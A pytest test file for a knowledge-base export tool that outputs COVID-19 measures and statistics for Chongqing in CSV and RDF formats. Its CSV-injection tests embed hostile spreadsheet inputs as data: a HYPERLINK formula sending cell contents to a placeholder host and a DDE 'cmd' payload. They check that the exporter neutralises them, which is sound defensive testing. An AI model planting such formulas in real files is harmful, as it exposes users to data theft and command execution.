"""Tests of `kb export`: CSV tables, JSON-LD and N-Quads round trips, Turtle, tracker layouts, bad input."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from collections import defaultdict
from pathlib import Path

import click
import pytest
import rdflib
from click.testing import CliRunner, Result
from rdflib.compare import isomorphic
from samples import add_fact, kb_imports

from kb import export as export_module
from kb.cli import export as export_command
from kb.cli import main
from kb.export import tables as export_tables
from kb.namespaces import PREFIXES, turtle_prefixes
from kb.project import Project
from kb.query import get_named_query, run_query
from kb.store import open_store

HEADER = turtle_prefixes("cq", "cat", "tg", "qk", "stat", "measure", "place", "obs", "rdfs", "src", "unit", "xsd")

# Two measures (one relaxing the other) and one statistic; the test* names keep them apart from the real facts.
FACTS = (
    HEADER
    + """
measure:test-daily-testing
    a cq:Measure ;
    rdfs:label "中心城区各区实行一天一次的区域核酸检测"@zh, "daily area testing in the central urban districts"@en ;
    cq:category cat:testing ;
    cq:strength cq:Mandatory ;
    cq:appliesTo place:central-urban-districts ;
    cq:targetGroup tg:central-area-residents ;
    cq:parameter [ a cq:Parameter ; cq:quantityKind qk:test-frequency ; cq:value 1.0 ; cq:unit unit:PER-DAY ] ;
    cq:announced "2022-11-09"^^xsd:date ;
    cq:announcedKind cq:EventDate ;
    cq:inForceFromKind cq:NotStated ;
    cq:inForceUntilKind cq:NotStated ;
    cq:source src:article-003 ;
    cq:quote "中心城区各区将实行一天一次的区域核酸检测" .

measure:test-testing-relaxed
    a cq:Measure ;
    rdfs:label "不再开展全员核酸检测"@zh, "no more mass testing"@en ;
    cq:category cat:testing ;
    cq:strength cq:Relaxation ;
    cq:appliesTo place:chongqing ;
    cq:ends measure:test-daily-testing ;
    cq:relaxes measure:test-daily-testing ;
    cq:announced "2022-11-30"^^xsd:date ;
    cq:announcedKind cq:EventDate ;
    cq:inForceFrom "2022-12-01"^^xsd:date ;
    cq:inForceFromKind cq:StatedDate ;
    cq:inForceUntilKind cq:NotStated ;
    cq:source src:article-001 ;
    cq:quote "不再開展全員核酸檢測" .

obs:test-new-cases
    a cq:Observation ;
    rdfs:label "重庆市新增本土确诊病例"@zh, "new confirmed cases in Chongqing"@en ;
    cq:statistic stat:new-confirmed-cases ;
    cq:area place:chongqing ;
    cq:refDate "2022-11-09"^^xsd:date ;
    cq:refDateKind cq:StatedDate ;
    cq:value 109.0 ;
    cq:unit unit:NUM ;
    cq:source src:article-003 ;
    cq:quote "重庆市新增本土确诊病例109例" .
"""
)


def run(runner: CliRunner, project: Project, *args: str) -> Result:
    """`kb --root PROJECT export ARGS...`"""
    return runner.invoke(main, ["--root", str(project.root), "export", *args])


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def context_document() -> dict:
    return json.loads(export_module.CONTEXT_FILE.read_text("utf-8"))


def store_dataset(project: Project) -> rdflib.Dataset:
    """What the store holds, read back through rdflib (the reference for the round trips)."""
    data = open_store(project).dump(format=__import__("pyoxigraph").RdfFormat.N_QUADS) or b""
    dataset = rdflib.Dataset()
    dataset.parse(data=data.decode("utf-8"), format="nquads")
    return dataset


def union_graph(dataset: rdflib.Dataset) -> rdflib.Graph:
    graph = rdflib.Graph()
    for s, p, o, _ in dataset.quads((None, None, None, None)):
        graph.add((s, p, o))
    return graph


# ---------------------------------------------------------------- CSV


def test_measures_csv_has_a_row_per_measure_with_links_and_parameters(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {row["measure"].rsplit("/", 1)[1]: row for row in read_csv(result.stdout)}
    assert set(rows) == {"test-daily-testing", "test-testing-relaxed"}
    daily = rows["test-daily-testing"]
    assert daily["announced"] == "2022-11-09"
    assert daily["parameters"] == "qk:test-frequency = 1 unit:PER-DAY"
    assert daily["target_group"] == PREFIXES["tg"] + "central-area-residents"
    assert daily["changed_by"] == PREFIXES["measure"] + "test-testing-relaxed"
    relaxed = rows["test-testing-relaxed"]
    assert relaxed["ends"] == PREFIXES["measure"] + "test-daily-testing"
    assert relaxed["relaxes"] == PREFIXES["measure"] + "test-daily-testing"
    # the derived effective period, each bound with its basis
    assert (daily["effective_from"], daily["effective_from_basis"]) == ("2022-11-09", "announced")
    assert (daily["effective_until"], daily["effective_until_basis"]) == (
        "2022-11-30",
        "ended by measure:test-testing-relaxed on 2022-12-01",
    )
    assert relaxed["in_force_from"] == "2022-12-01"
    assert relaxed["parameters"] == "" and relaxed["changed_by"] == ""


def test_measures_csv_columns_start_with_those_of_the_measures_query(mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    store = open_store(mini_project)
    header, _ = export_module.measures_table(store)
    measures = run_query(store, get_named_query("measures").text)
    assert header[: len(measures.variables)] == measures.variables
    assert {"target_group", "parameters", "relaxes", "replaces", "cites", "changed_by"} <= set(header)


def test_exports_read_their_own_feeds_not_the_user_questions(
    mini_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_fact(mini_project, FACTS)
    store = open_store(mini_project)

    def refused(*args: object, **kwargs: object) -> None:
        raise AssertionError("an export read the catalogue of user questions")

    import kb.query

    for module in (kb.query, *(m for name, m in sys.modules.items() if name.startswith("kb.export"))):
        for name in ("get_named_query", "named_queries"):
            monkeypatch.setattr(module, name, refused, raising=False)
    for fmt in export_module.FORMATS:
        assert export_module.export(store, fmt)
    assert export_module.export(store, "csv", table="statistics")


def test_every_export_feed_is_used() -> None:
    used = "".join(path.read_text("utf-8") for path in Path(export_module.__file__).parent.glob("*.py"))
    for path in sorted(export_module.QUERY_DIR.glob("*.rq")):
        assert f'feed(store, "{path.stem}")' in used, path.name


def test_real_measures_csv_has_as_many_rows_as_the_measures_query(runner: CliRunner, project: Project) -> None:
    result = run(runner, project, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    measures = run_query(open_store(project), get_named_query("measures").text)
    assert len(rows) == len(measures.rows)
    assert [row["measure"] for row in rows] == [r["measure"] for r in measures.records()]


def test_statistics_table_has_a_row_per_observation(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "csv", "--table", "statistics")
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    assert len(rows) == 1
    assert rows[0]["statistic"] == PREFIXES["stat"] + "new-confirmed-cases"
    assert rows[0]["ref_date"] == "2022-11-09"
    assert float(rows[0]["value"]) == 109.0
    assert rows[0]["quote"] == "重庆市新增本土确诊病例109例"


def test_excel_flag_adds_a_byte_order_mark(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    plain = run(runner, mini_project, "--format", "csv")
    excel = run(runner, mini_project, "--format", "csv", "--excel")
    assert plain.exit_code == 0 and excel.exit_code == 0, plain.output + excel.output
    assert not plain.stdout_bytes.startswith(b"\xef\xbb\xbf")
    assert excel.stdout_bytes == b"\xef\xbb\xbf" + plain.stdout_bytes
    assert "中心城区" in excel.stdout_bytes.decode("utf-8-sig")


def test_output_file_is_written(runner: CliRunner, mini_project: Project, tmp_path: Path) -> None:
    add_fact(mini_project, FACTS)
    target = tmp_path / "measures.csv"
    result = run(runner, mini_project, "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert len(read_csv(target.read_text("utf-8"))) == 2
    assert not list(tmp_path.glob(".measures.csv.*"))


# ---------------------------------------------------------------- RDF round trips


def test_jsonld_round_trips_to_an_isomorphic_graph(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "jsonld")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    # The exported document carries the published context; parse it with the local file's context only.
    assert document["@context"] == context_document()["@context"]
    document["@context"] = context_document()["@context"]
    parsed = rdflib.Graph().parse(data=json.dumps(document), format="json-ld")
    assert isomorphic(parsed, union_graph(store_dataset(mini_project)))


def test_jsonld_is_compacted_with_language_maps(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "jsonld")
    assert result.exit_code == 0, result.output
    nodes = {node["id"]: node for node in json.loads(result.stdout)["@graph"]}
    measure = nodes["measure:test-daily-testing"]
    assert measure["label"] == {
        "zh": "中心城区各区实行一天一次的区域核酸检测",
        "en": "daily area testing in the central urban districts",
    }
    assert measure["category"] == "cat:testing"
    assert measure["announced"] == "2022-11-09"


def test_real_jsonld_round_trips(runner: CliRunner, project: Project) -> None:
    result = run(runner, project, "--format", "jsonld")
    assert result.exit_code == 0, result.output
    parsed = rdflib.Graph().parse(data=result.stdout, format="json-ld")
    assert isomorphic(parsed, union_graph(store_dataset(project)))


@pytest.mark.xfail(
    reason="rdflib's JSON-LD serializer writes a blank node under a term coerced to @id (cq:parameter) as a bare "
    "reference and drops its triples (RDFLib/rdflib-jsonld#28), so kb/export/rdf.py compacts by itself; "
    "once this passes, rdflib's serializer may replace the compactor",
    strict=True,
)
def test_rdflib_jsonld_serializer_round_trips_with_the_published_context() -> None:
    graph = rdflib.Graph().parse(data=FACTS, format="turtle")
    data = graph.serialize(format="json-ld", context=export_module.load_context(), auto_compact=True)
    assert isomorphic(rdflib.Graph().parse(data=data, format="json-ld"), graph)


def test_nquads_keep_one_graph_per_file_and_round_trip(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "nq")
    assert result.exit_code == 0, result.output
    exported = rdflib.Dataset()
    exported.parse(data=result.stdout, format="nquads")
    expected = store_dataset(mini_project)

    def per_graph(dataset: rdflib.Dataset) -> dict[str, rdflib.Graph]:
        graphs: dict[str, rdflib.Graph] = defaultdict(rdflib.Graph)
        for s, p, o, g in dataset.quads((None, None, None, None)):
            graphs[str(g)].add((s, p, o))
        return graphs

    got, want = per_graph(exported), per_graph(expected)
    assert set(got) == set(want)
    assert "https://w3id.org/cq-covid/graph/facts/test" in got
    assert "https://w3id.org/cq-covid/graph/ontology/cq" in got
    for name in want:
        assert isomorphic(got[name], want[name]), name
    # Each file's own graph holds what that file says (the store writes decimals canonically: 1.0 as 1).
    own = rdflib.Graph().parse(data=FACTS, format="turtle")
    test_graph = got["https://w3id.org/cq-covid/graph/facts/test"]
    assert len(test_graph) == len(own)
    assert {s for s in test_graph.subjects() if isinstance(s, rdflib.URIRef)} == {
        s for s in own.subjects() if isinstance(s, rdflib.URIRef)
    }


def test_turtle_is_the_union_with_project_prefixes(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FACTS)
    result = run(runner, mini_project, "--format", "ttl")
    assert result.exit_code == 0, result.output
    assert "@prefix measure: <https://w3id.org/cq-covid/id/measure/> ." in result.stdout
    parsed = rdflib.Graph().parse(data=result.stdout, format="turtle")
    assert isomorphic(parsed, union_graph(store_dataset(mini_project)))


# ---------------------------------------------------------------- the published context


def test_context_binds_every_project_prefix() -> None:
    context = context_document()["@context"]
    for prefix, iri in PREFIXES.items():
        assert context.get(prefix) == iri, prefix


def test_context_terms_name_declared_properties(project: Project) -> None:
    ontology = rdflib.Graph()
    for path in project.ontology_files():
        ontology.parse(path, format="turtle")
    context = context_document()["@context"]
    declared = set(ontology.subjects(rdflib.RDF.type, None))
    for term, definition in context.items():
        if not isinstance(definition, dict):
            continue
        prefix, _, local = definition["@id"].partition(":")
        iri = rdflib.URIRef(context[prefix] + local)
        if prefix == "cq":
            assert iri in declared, f"context term {term} names {iri}, which the ontology does not declare"


# ---------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "xlsx"], "Invalid value for '--format'"),
        (["--format", "csv", "--table", "places"], "Invalid value for '--table'"),
        (["--format", "nq", "-o", "{missing}/out.nq"], "does not exist"),
        (["--format", "nq", "-o", "{folder}"], "is a folder"),
        (["--format", "jsonld", "--excel"], "--excel applies to CSV output"),
        (["--format", "ttl", "--table", "statistics"], "--table applies to --format csv"),
    ],
)
def test_bad_input_exits_2_with_a_message(
    runner: CliRunner, mini_project: Project, tmp_path: Path, args: list[str], message: str
) -> None:
    args = [a.format(missing=tmp_path / "missing", folder=tmp_path) for a in args]
    result = run(runner, mini_project, *args)
    assert result.exit_code == 2, result.output
    assert message in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "missing").exists()


def test_cli_choices_match_the_export_formats() -> None:
    fmt = next(p for p in export_command.params if p.name == "fmt").type
    assert isinstance(fmt, click.Choice)
    assert tuple(fmt.choices) == export_module.FORMATS


def test_failed_export_leaves_no_file(runner: CliRunner, mini_project: Project, tmp_path: Path) -> None:
    add_fact(mini_project, "this is not turtle")
    target = tmp_path / "out.nq"
    result = run(runner, mini_project, "--format", "nq", "-o", str(target))
    assert result.exit_code == 2, result.output
    assert "Turtle syntax error" in result.output
    assert not target.exists()


# ---------------------------------------------------------------- tracker layouts

# The OxCGRT and CoronaNet layouts have tests of their own (tests/test_trackers_*.py), one per codebook rule.


def test_real_tracker_layouts_have_a_row_per_day_and_a_record_per_type(runner: CliRunner, project: Project) -> None:
    oxcgrt = run(runner, project, "--format", "oxcgrt")
    assert oxcgrt.exit_code == 0, oxcgrt.output
    rows = read_csv(oxcgrt.stdout)
    assert len(rows) == 30 and {row["RegionCode"] for row in rows} == {"CHN_CQ"}  # 5 days of 2020, 25 of 2022
    coronanet = run(runner, project, "--format", "coronanet")
    assert coronanet.exit_code == 0, coronanet.output
    records = read_csv(coronanet.stdout)
    assert records and all(record["type"] and "|" not in record["type"] for record in records)


# ---------------------------------------------------------------- CSV injection and file permissions

# Cells a spreadsheet would run as formulas (labels, quotes, a measure id); a negative value that must stay a number.
FORMULA_FACTS = (
    HEADER
    + """
<https://w3id.org/cq-covid/id/measure/=2+3>
    a cq:Measure ;
    rdfs:label "=HYPERLINK(\\"http://example.invalid/?\\"&A1,\\"click\\")"@en, "@SUM(1,2)"@zh ;
    cq:category cat:testing ;
    cq:strength cq:Mandatory ;
    cq:appliesTo place:chongqing ;
    cq:announced "2022-11-09"^^xsd:date ;
    cq:announcedKind cq:EventDate ;
    cq:inForceFromKind cq:NotStated ;
    cq:inForceUntilKind cq:NotStated ;
    cq:source src:article-003 ;
    cq:quote "-2+3+cmd|' /C calc'!A0" .

obs:test-formula
    a cq:Observation ;
    rdfs:label "\\tTAB"@zh, "+1 new case"@en ;
    cq:statistic stat:new-confirmed-cases ;
    cq:area place:chongqing ;
    cq:refDate "2022-11-09"^^xsd:date ;
    cq:refDateKind cq:StatedDate ;
    cq:value -3.5 ;
    cq:unit unit:NUM ;
    cq:source src:article-003 ;
    cq:quote "\\rCR first" .
"""
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_that_start_a_formula_get_a_quote_mark(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FORMULA_FACTS)
    measures = run(runner, mini_project, "--format", "csv")
    assert measures.exit_code == 0, measures.output
    [row] = read_csv(measures.stdout)
    assert row["label_en"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'
    assert row["label_zh"] == "'@SUM(1,2)"
    assert row["quote"] == "'-2+3+cmd|' /C calc'!A0"
    statistics = run(runner, mini_project, "--format", "csv", "--table", "statistics")
    assert statistics.exit_code == 0, statistics.output
    [stat] = read_csv(statistics.stdout)
    assert (stat["label_zh"], stat["label_en"], stat["quote"]) == ("'\tTAB", "'+1 new case", "'\rCR first")
    assert float(stat["value"]) == -3.5  # a plain number stays a number for spreadsheets and pandas alike
    coronanet = run(runner, mini_project, "--format", "coronanet")
    assert coronanet.exit_code == 0, coronanet.output
    [event] = read_csv(coronanet.stdout)
    assert event["record_id"] == event["policy_id"] == "'=2+3"
    assert event["description"].startswith("'=HYPERLINK(")  # the release has no Chinese description column
    oxcgrt = run(runner, mini_project, "--format", "oxcgrt")
    assert oxcgrt.exit_code == 0, oxcgrt.output
    for text in (measures.stdout, statistics.stdout, coronanet.stdout, oxcgrt.stdout):
        for line in csv.reader(io.StringIO(text)):
            for cell in line:
                assert not cell.startswith(DANGEROUS) or export_tables._PLAIN_NUMBER.fullmatch(cell), cell
    # the OxCGRT notes name the measure inside the text, never at the start of a cell
    assert any("measure:=2+3" in line for line in oxcgrt.stdout.splitlines())


def test_raw_csv_writes_cells_exactly(runner: CliRunner, mini_project: Project) -> None:
    add_fact(mini_project, FORMULA_FACTS)
    result = run(runner, mini_project, "--format", "csv", "--raw-csv")
    assert result.exit_code == 0, result.output
    [row] = read_csv(result.stdout)
    assert row["label_en"] == '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    assert row["quote"] == "-2+3+cmd|' /C calc'!A0"
    coronanet = run(runner, mini_project, "--format", "coronanet", "--raw-csv", "--excel")
    assert coronanet.exit_code == 0, coronanet.output
    [event] = read_csv(coronanet.stdout_bytes.decode("utf-8-sig"))
    assert event["record_id"] == "=2+3"


def test_raw_csv_applies_only_to_csv_output(runner: CliRunner, mini_project: Project) -> None:
    result = run(runner, mini_project, "--format", "ttl", "--raw-csv")
    assert result.exit_code == 2, result.output
    assert "--raw-csv applies to CSV output, not to ttl" in result.output and "Traceback" not in result.output


@pytest.mark.parametrize("value", ["-3", "+3", "-3.5", "1e5", "-.5", "2022-11-09", "a=b", ""])
def test_plain_numbers_and_inner_signs_are_left_alone(value: str) -> None:
    assert export_module.protect_cell(value) == value


@pytest.mark.parametrize("value", ["=1+1", "-21-21", "+A1", "@SUM(A1)", "\tx", "\rx", "-", "-1,0", "-٣"])
def test_formula_starts_are_neutralised(value: str) -> None:
    assert export_module.protect_cell(value) == "'" + value


@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_exported_file_gets_normal_permissions(
    runner: CliRunner, mini_project: Project, tmp_path: Path, umask: int
) -> None:
    target = tmp_path / "measures.csv"
    old = os.umask(umask)
    try:
        result = run(runner, mini_project, "--format", "csv", "-o", str(target))
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask


def test_export_over_an_existing_file_keeps_its_mode(runner: CliRunner, mini_project: Project, tmp_path: Path) -> None:
    target = tmp_path / "out.nq"
    target.write_text("old", "utf-8")
    target.chmod(0o640)
    result = run(runner, mini_project, "--format", "nq", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert target.stat().st_mode & 0o777 == 0o640 and target.read_text("utf-8") != "old"


def test_export_never_imports_timeline_validate_or_serve() -> None:
    imports = kb_imports(Path(export_module.__file__).parent)
    assert "kb.store" in imports or "kb.query" in imports  # the resolution sees the package's own imports
    assert sorted(name for name in imports if name.startswith(("kb.timeline", "kb.validate", "kb.serve"))) == []
